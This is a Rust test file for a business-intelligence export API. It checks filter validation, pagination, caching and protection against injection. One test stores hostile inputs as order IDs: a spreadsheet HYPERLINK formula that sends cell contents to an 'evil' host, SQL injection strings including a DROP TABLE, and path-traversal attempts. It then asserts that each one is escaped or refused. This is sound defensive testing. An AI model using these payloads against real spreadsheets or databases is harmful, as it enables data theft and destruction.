//! What can be asked of a view, and what is refused.

use entrepot_api::auth::Role;
use entrepot_tests::{TestDb, both};
use serde_json::json;

use super::files::{arrow, csv, parquet};
use super::{VIEWS, escaped, file, refusal, settled, stage, token_of};
use crate::server::Server;
use crate::shopfront::{order_of, place, receive, tenants, with};
use Role::{Operator, Partner};

both! {
    async fn rows_are_picked_and_what_cannot_be_asked_is_refused(db: TestDb) {
        let server = stage(&db).await;
        let reader = server.client("north", Operator);
        let mut picked = 0;
        for (view, ..) in VIEWS {
            // The lag of the views changes by itself.
            if *view == "freshness" { continue; }
            let whole = file(&reader, &format!("/bi/{view}.csv")).await;
            let listed = reader.get("/bi/").await.unwrap().json();
            let view_of = listed["views"].as_array().unwrap().iter().find(|known| known["name"] == *view).unwrap().clone();
            for column in view_of["columns"].as_array().unwrap() {
                let name = column["name"].as_str().unwrap();
                let value = whole.column(name).into_iter().find(|value| !value.is_empty());
                let Some(value) = value.map(str::to_owned) else { continue };
                let answer = reader.get(&format!("/bi/{view}.csv?{name}={}", escaped(&value))).await.unwrap();
                if column["filter"] == false {
                    assert_eq!(refusal(&answer), (400, "BAD_USER_INPUT".to_owned(), Some(name.to_owned())), "{view}.{name}");
                    continue;
                }
                let expected: Vec<&Vec<String>> = whole.rows.iter().filter(|row| row[whole.place(name)] == value).collect();
                assert_eq!(csv(&answer.body).rows.iter().collect::<Vec<_>>(), expected, "{view}.{name}={value}");
                picked += 1;
            }
            let Some(day) = view_of["day"].as_str() else {
                let answer = reader.get(&format!("/bi/{view}.csv?from=2020-01-01")).await.unwrap();
                assert_eq!(refusal(&answer), (400, "BAD_USER_INPUT".to_owned(), Some("from".to_owned())), "{view}");
                continue;
            };
            let days: Vec<&str> = whole.column(day).into_iter().filter(|day| !day.is_empty()).collect();
            let last = days.iter().max().unwrap();
            let within = file(&reader, &format!("/bi/{view}.csv?from={last}&to={last}")).await;
            assert_eq!(within.rows.len(), days.iter().filter(|day| day == &last).count(), "{view}");
            assert!(file(&reader, &format!("/bi/{view}.csv?from=2999-01-01")).await.rows.is_empty());
            assert!(file(&reader, &format!("/bi/{view}.csv?to=1999-01-01")).await.rows.is_empty());
        }
        assert!(picked > 60, "{picked}");
        let fresh = file(&reader, "/bi/freshness.csv?view_name=orders").await;
        assert_eq!((fresh.column("view_name"), fresh.column("lag_events")), (vec!["orders"], vec!["0"]));
        let some = file(&reader, "/bi/orders.csv?columns=total,%20order_id&limit=2").await;
        assert_eq!((some.names, some.rows.len()), (vec!["total".to_owned(), "order_id".to_owned()], 2));
        for (query, field) in [
            ("limit=0", "limit"), ("limit=-1", "limit"), ("limit=x", "limit"), ("limit=1000001", "limit"), ("limit=", "limit"),
            ("limit=1&limit=2", "limit"), ("columns=", "columns"), ("columns=total,total", "columns"), ("columns=total,,net", "columns"),
            ("columns=tenant_id", "columns"), ("tenant_id=1", "tenant_id"), ("from=2026-13-01", "from"), ("from=now", "from"),
            ("to=2026-3-1", "to"), ("from=", "from"), ("after=", "after"), ("after=AAAA", "after"), ("held=yes", "held"),
            ("order_id=1", "order_id"), ("line_count=1.5", "line_count"), ("line_count=99999999999999999999", "line_count"),
            ("channel=a%00b", "channel"), ("total=1", "total"), ("placed_at=2026-03-01T00:00:00Z", "placed_at"),
        ] {
            let answer = reader.get(&format!("/bi/orders.csv?{query}")).await.unwrap();
            assert_eq!(refusal(&answer), (400, "BAD_USER_INPUT".to_owned(), Some(field.to_owned())), "{query}");
        }
        for (path, status) in [("/bi/orders", 404), ("/bi/orders.xlsx", 404), ("/bi/nonesuch.csv", 404), ("/bi/.csv", 404), ("/bi/ORDERS.csv", 404), ("/bi/orders.csv?%ff=%ff", 400)] {
            assert_eq!(refusal(&reader.get(path).await.unwrap()).0, status, "{path}");
        }
        for method in ["POST", "PUT", "DELETE"] {
            let answer = reader.send(method, "/bi/orders.csv", &[], b"").await.unwrap();
            assert_eq!((refusal(&answer).1.as_str(), answer.header("allow")), ("METHOD_NOT_ALLOWED", Some("GET, HEAD")));
        }
    }

    async fn nothing_that_a_caller_wrote_becomes_sql_or_a_formula(db: TestDb) {
        tenants(&db, &["north"]).await;
        let server = Server::start(&db).await;
        let boss = server.boss("north");
        receive(&boss, "A", 100, 880).await;
        let evil = ["=HYPERLINK(\"http://evil/?\"&A1)", "+1+1", "-2-3", "@SUM(A1:A9)", "' OR '1'='1", "a,\"b\"\r\nc", "'); DROP TABLE rm_bi_orders; --", "%27 OR 1=1", "ünïcode 🛒"];
        for (number, text) in evil.iter().enumerate() {
            let id = if text.contains('\r') { format!("a,\"b\" {number}") } else { (*text).to_owned() };
            place(&boss, with(&order_of("A", 1), json!({ "externalId": id }))).await;
        }
        let reader = server.client("north", Operator);
        settled(&db, &reader, "north").await;
        let (sheet, exact) = (reader.get("/bi/orders.csv").await.unwrap(), reader.get("/bi/orders.parquet").await.unwrap());
        let (sheet, exact) = (csv(&sheet.body), parquet(&exact.body));
        for (shown, stored) in sheet.column("external_id").iter().zip(exact.column("external_id")) {
            let formula = stored.starts_with(['=', '+', '-', '@', '\t', '\r']);
            assert_eq!(*shown, if formula { format!("'{stored}") } else { stored.to_owned() });
            assert!(!shown.starts_with(['=', '+', '-', '@']));
            // The text itself finds its row, and no other.
            let found = file(&reader, &format!("/bi/orders.csv?external_id={}", escaped(stored))).await;
            assert_eq!(found.column("external_id"), [*shown]);
        }
        assert_eq!(exact.rows.len(), evil.len());
        for name in ["1=1;--", "channel'--", "\"channel\"", "channel)%20OR%20(1", "rm_bi_orders.channel", "CHANNEL", "*"] {
            let answer = reader.get(&format!("/bi/orders.csv?{}=web", escaped(name))).await.unwrap();
            assert_eq!(refusal(&answer).1, "BAD_USER_INPUT", "{name}");
            let answer = reader.get(&format!("/bi/orders.csv?columns={}", escaped(name))).await.unwrap();
            assert_eq!(refusal(&answer).2.as_deref(), Some("columns"), "{name}");
        }
        for path in ["/bi/orders;drop.csv", "/bi/orders%20where.csv", "/bi/..%2forders.csv", "/bi/rm_bi_orders.csv", "/bi/bi.orders.csv"] {
            assert_eq!(refusal(&reader.get(path).await.unwrap()).1, "NOT_FOUND", "{path}");
        }
    }

    async fn pages_put_together_are_the_whole(db: TestDb) {
        let server = stage(&db).await;
        let reader = server.client("north", Operator);
        let mut pages = 0;
        for (view, ..) in VIEWS {
            if *view == "freshness" { continue; }
            for filter in ["", "&currency=USD"] {
                let whole = reader.get(&format!("/bi/{view}.csv?limit=1000{filter}")).await.unwrap();
                if whole.status == 400 { continue; }
                let whole = csv(&whole.body);
                for (limit, format) in [(1, "csv"), (3, "csv"), (2, "parquet"), (2, "arrow")] {
                    let (mut path, mut rows) = (format!("/bi/{view}.{format}?limit={limit}{filter}"), Vec::new());
                    loop {
                        let answer = reader.get(&path).await.unwrap();
                        assert_eq!(answer.status, 200, "{path}: {}", answer.text());
                        let page = match format {
                            "csv" => csv(&answer.body),
                            "parquet" => parquet(&answer.body).as_sheet(),
                            _ => arrow(&answer.body).as_sheet(),
                        };
                        assert!(page.rows.len() <= limit);
                        rows.extend(page.rows);
                        pages += 1;
                        let Some(cursor) = answer.header("entrepot-next-cursor") else { break };
                        path = format!("/bi/{view}.{format}?limit={limit}{filter}&after={cursor}");
                        // The header link says the same.
                        let link = answer.header("link").unwrap();
                        assert!(link.contains(cursor) && link.ends_with("rel=\"next\""), "{link}");
                    }
                    assert_eq!(rows, whole.rows, "{view} {limit} {format}");
                }
            }
        }
        assert!(pages > 100, "{pages}");
        // A cursor is of the rows that it was made for.
        let answer = reader.get("/bi/orders.csv?limit=1&channel=web").await.unwrap();
        let cursor = answer.header("entrepot-next-cursor").unwrap();
        for path in [format!("/bi/orders.csv?after={cursor}"), format!("/bi/orders.csv?channel=till&after={cursor}"), format!("/bi/order_lines.csv?channel=web&after={cursor}"), format!("/bi/orders.csv?channel=web&after={cursor}A")] {
            assert_eq!(refusal(&reader.get(&path).await.unwrap()), (400, "BAD_USER_INPUT".to_owned(), Some("after".to_owned())), "{path}");
        }
        let partner = server.bearer(&token_of(Partner));
        assert_eq!(refusal(&partner.get(&format!("/bi/orders.csv?channel=web&after={cursor}")).await.unwrap()).0, 400);
    }

    async fn what_a_client_has_is_not_sent_again(db: TestDb) {
        let server = stage(&db).await;
        let reader = server.client("north", Operator);
        let first = reader.get("/bi/orders.parquet").await.unwrap();
        let tag = first.header("etag").unwrap();
        for known in [tag.to_owned(), format!("\"x\", {tag}"), "*".to_owned(), tag.trim_start_matches("W/").to_owned()] {
            let answer = reader.with("if-none-match", &known).get("/bi/orders.parquet").await.unwrap();
            assert_eq!((answer.status, answer.body.len(), answer.header("etag")), (304, 0, Some(tag)), "{known}");
        }
        let asked = reader.with("if-none-match", tag);
        for path in ["/bi/orders.csv", "/bi/orders.parquet?limit=5", "/bi/orders.parquet?columns=total", "/bi/orders.parquet?channel=web", "/bi/order_lines.parquet"] {
            assert_eq!(asked.get(path).await.unwrap().status, 200, "{path}");
        }
        let partner = server.bearer(&token_of(Partner)).with("if-none-match", tag);
        assert_eq!(partner.get("/bi/orders.parquet").await.unwrap().status, 200);
        let head_only = reader.send("HEAD", "/bi/orders.parquet", &[], b"").await.unwrap();
        assert_eq!((head_only.status, head_only.header("etag"), head_only.body.len()), (200, Some(tag), 0));
        // The lag of the views changes while they stand still.
        let fresh = reader.with("if-none-match", "*").get("/bi/freshness.csv").await.unwrap();
        assert_eq!((fresh.status, fresh.header("etag")), (200, None));
        let written = receive(&server.boss("north"), "A", 1, 1).await["consistencyToken"].as_str().unwrap().to_owned();
        let answer = asked.with("entrepot-consistency", &written).get("/bi/orders.parquet").await.unwrap();
        assert_eq!(answer.status, 200);
        assert_ne!(answer.header("etag"), Some(tag));
    }
}
